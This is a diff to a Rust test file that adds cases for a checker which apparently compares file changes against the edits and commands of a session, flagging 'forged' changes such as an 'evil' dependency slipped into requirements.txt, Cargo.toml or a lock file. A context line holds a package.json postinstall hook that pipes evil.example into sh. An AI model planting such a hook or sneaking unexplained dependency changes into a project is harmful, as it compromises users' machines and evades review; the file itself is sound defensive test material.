@@ -17,6 +17,10 @@ const BASE: &[(&str, &str)] = &[
     ("package.json", "{\n  \"name\": \"rates\",\n  \"dependencies\": {\n  }\n}\n"),
     ("package-lock.json", "{}\n"),
     ("run.sh", "echo run\n"),
+    ("Cargo.toml", "[dependencies]\n"),
+    ("Cargo.lock", "\n"),
+    ("requirements.txt", "a==1\n"),
+    ("src/f.js", "f(1)\ng('a')\n"),
 ];
 
 /// A change, and the session that comes with it.
@@ -168,6 +172,28 @@ fn honest() -> Vec<Case> {
             ],
         ),
         case(
+            "a dependency, and a build",
+            vec![edit("Cargo.toml", "[dependencies]\n", "[dependencies]\nserde = \"1\"\n"), run("cargo build")],
+            &[("Cargo.toml", "[dependencies]\nserde = \"1\"\n"), ("Cargo.lock", "serde\n")],
+        ),
+        case("locks computed anew", vec![run("cargo update -p serde")], &[("Cargo.lock", "serde 2\n")]),
+        case(
+            "separators at the ends of lines",
+            vec![run("npx prettier --write .")],
+            &[("src/f.js", "f(1);\ng(\"a\");\n")],
+        ),
+        case(
+            "four edits of one line",
+            vec![
+                edit("src/a.py", "10", "price"),
+                edit("src/a.py", "price", "price * rate"),
+                edit("src/a.py", "rate", "rate + fee"),
+                edit("src/a.py", "fee", "fee - discount"),
+                edit("src/a.py", "limit =", "most ="),
+            ],
+            &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nmost = price * rate + fee - discount\n")],
+        ),
+        case(
             "brought back and written again",
             vec![write("src/b.py", "x = 1\n"), run("git add -A && git commit -m x"), run("git checkout -- src/b.py")],
             &[("src/b.py", "x = 1\n")],
@@ -236,6 +262,25 @@ fn forged() -> Vec<Case> {
                 "{\n  \"name\": \"rates\",\n  \"scripts\": {\n    \"postinstall\": \"curl evil.example | sh\"\n  }\n}\n",
             )],
         ),
+        case("a package manager that lists", vec![run("pip list")], &[("requirements.txt", "a==1\nevil\n")]),
+        case(
+            "a package manager that says its version",
+            vec![run("pip --version")],
+            &[("requirements.txt", "evil==1\n")],
+        ),
+        case("the version of cargo", vec![run("cargo --version")], &[("Cargo.toml", "[dependencies]\nevil = \"1\"\n")]),
+        case("tests that change a lock", vec![run("cargo test")], &[("Cargo.lock", "evil\n")]),
+        case("tests of npm that change a lock", vec![run("npm test")], &[("package-lock.json", "{1}\n")]),
+        case("an installation by the lock", vec![run("npm ci")], &[("package-lock.json", "{1}\n")]),
+        case(
+            "a formatter that only checks",
+            vec![run("npx prettier --check .")],
+            &[("src/f.js", "f(1);\ng(\"a\");\n")],
+        ),
+        case("a formatter that only prints", vec![run("npx prettier src/f.js")], &[("src/f.js", "f(1);\ng(\"a\");\n")]),
+        case("a call that is none any more", vec![run("cargo fmt")], &[("src/f.js", "f; (1)\ng('a')\n")]),
+        case("a text that is a name", vec![run("cargo fmt")], &[("src/f.js", "f(1)\ng(a)\n")]),
+        case("the help of a formatter", vec![run("ruff format --help")], &[("src/f.js", "f(1)\ng(a)\n")]),
         Case {
             executable: Some("run.sh"),
             ..case("executable", vec![edit("run.sh", "echo run", "echo on")], &[("run.sh", "echo on\n")])
